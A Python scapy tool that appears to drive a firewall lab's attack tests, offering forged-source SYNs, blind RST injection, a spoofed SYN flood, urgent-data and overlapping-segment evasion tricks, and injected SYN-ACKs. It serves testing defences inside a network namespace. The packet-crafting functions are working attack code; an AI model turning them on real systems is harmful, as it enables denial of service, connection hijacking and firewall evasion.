#!/usr/bin/python3
"""Crafted packets for the lab's attack tests, sent with scapy from inside a namespace.

  attack.py spoof-syn SRC SPORT DST DPORT        one SYN with a forged source
  attack.py rst SRC SPORT DST DPORT COUNT        COUNT RSTs with random sequence numbers
  attack.py flood DST DPORT COUNT SECONDS        SYNs from forged 198.18.1.100-249 sources
  attack.py urg DST DPORT                        a real socket: "GET /", "X" as urgent data, the rest
  attack.py session DST DPORT STEP...            a handshake of our own, then each STEP:
      synack                 a segment with SYN+ACK at the next sequence number
      data:OFF:B64[:TTL]     B64-decoded bytes at stream offset OFF (0: the first byte), IP TTL
      wait:SECONDS           listen for that long
    acknowledges the server's bytes as they come in order; prints every payload the server side
    sends back. The host's own stack must not answer for
    the session's port: the test drops its outgoing RSTs (iptables in xg-client).

Frames go out of IFACE (default c0) to the next hop ROUTER (default 198.18.1.1, the firewall's
ext0) at layer 2: a forged packet addressed to this host itself would otherwise never leave it.
Run with Debian's /usr/bin/python3 (python3-scapy); needs CAP_NET_RAW.
"""
import os
import random
import sys
import time

import base64
import socket

from scapy.all import IP, TCP, Ether, AsyncSniffer, conf, getmacbyip, sendp, srp1

conf.verb = 0
IFACE = os.environ.get("IFACE", "c0")
ROUTER = os.environ.get("ROUTER", "198.18.1.1")


def send(packets, inter=0):
    router = Ether(dst=getmacbyip(ROUTER))
    sendp([router / p for p in (packets if isinstance(packets, list) else [packets])], iface=IFACE, inter=inter)


def spoof_syn(src, sport, dst, dport):
    send(IP(src=src, dst=dst) / TCP(sport=int(sport), dport=int(dport), flags="S", seq=random.getrandbits(32)))


def rst(src, sport, dst, dport, count):
    packets = [IP(src=src, dst=dst) / TCP(sport=int(sport), dport=int(dport), flags="R",
                                          seq=random.getrandbits(32)) for _ in range(int(count))]
    send(packets, inter=0.001)


def flood(dst, dport, count, seconds):
    count, seconds = int(count), float(seconds)
    packets = [IP(src="198.18.1.%d" % (100 + i % 150), dst=dst) /
               TCP(sport=20000 + i % 40000, dport=int(dport), flags="S", seq=random.getrandbits(32))
               for i in range(count)]
    start = time.monotonic()
    send(packets, inter=seconds / count)
    print("sent %d SYNs in %.1f s" % (count, time.monotonic() - start))


def urg(dst, dport):
    s = socket.create_connection((dst, int(dport)), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for chunk, flags in ((b"GET /", 0), (b"X", socket.MSG_OOB), (b"admin/u HTTP/1.1\r\nHost: a\r\n\r\n", 0)):
        s.send(chunk, flags)
        time.sleep(0.3)
    got, end = b"", "closed"
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except ConnectionResetError:
        end = "reset"
    except socket.timeout:
        end = "timeout"
    print(got.decode("latin-1"))
    print("--end: " + end)


def session(dst, dport, *steps):
    src = "198.18.1.2"
    sport = random.randint(46000, 47000)
    dport = int(dport)
    router = Ether(dst=getmacbyip(ROUTER))
    isn = random.getrandbits(31)
    # lfilter, not a BPF filter: the latter needs libpcap, which python3-scapy only recommends
    # the server's bytes received in order so far: acknowledged, so that a server that speaks first
    # (SMTP's greeting) goes on to its next reply instead of retransmitting the first
    heard = {"next": None}

    def hear(p):
        data = len(p[TCP].payload)
        if heard["next"] is not None and p[TCP].seq == heard["next"] and data:
            heard["next"] = (heard["next"] + data) % (1 << 32)

    sniffer = AsyncSniffer(iface=IFACE, prn=hear, lfilter=lambda p: p.haslayer(TCP) and p.haslayer(IP) and
                           p[IP].src == dst and p[TCP].sport == dport and p[TCP].dport == sport)
    sniffer.start()
    time.sleep(0.5)
    synack = srp1(router / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="S", seq=isn,
                                                    options=[("MSS", 1400)]),
                  iface=IFACE, timeout=3)
    if synack is None:
        print("--end: no SYN-ACK")
        return
    ack = synack[TCP].seq + 1
    heard["next"] = ack
    sendp(router / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="A", seq=isn + 1, ack=ack),
          iface=IFACE)
    for step in steps:
        kind, _, rest = step.partition(":")
        if heard["next"] != ack:
            ack = heard["next"]
            sendp(router / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="A", seq=isn + 1, ack=ack),
                  iface=IFACE)
        if kind == "synack":
            sendp(router / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="SA", seq=isn + 1, ack=ack),
                  iface=IFACE)
        elif kind == "data":
            parts = rest.split(":")
            off, payload = int(parts[0]), base64.b64decode(parts[1])
            ttl = int(parts[2]) if len(parts) > 2 else 64
            sendp(router / IP(src=src, dst=dst, ttl=ttl) /
                  TCP(sport=sport, dport=dport, flags="PA", seq=isn + 1 + off, ack=ack) / payload, iface=IFACE)
        elif kind == "wait":
            time.sleep(float(rest))
        time.sleep(0.3)
    time.sleep(1)
    sniffer.stop()
    got = b"".join(bytes(p[TCP].payload) for p in sniffer.results if p.haslayer(TCP))
    ended = any(p[TCP].flags & 0x04 for p in sniffer.results if p.haslayer(TCP))
    print(got.decode("latin-1"))
    print("--end: " + ("reset" if ended else "open"))


if __name__ == "__main__":
    {"spoof-syn": spoof_syn, "rst": rst, "flood": flood, "urg": urg, "session": session}[sys.argv[1]](*sys.argv[2:])
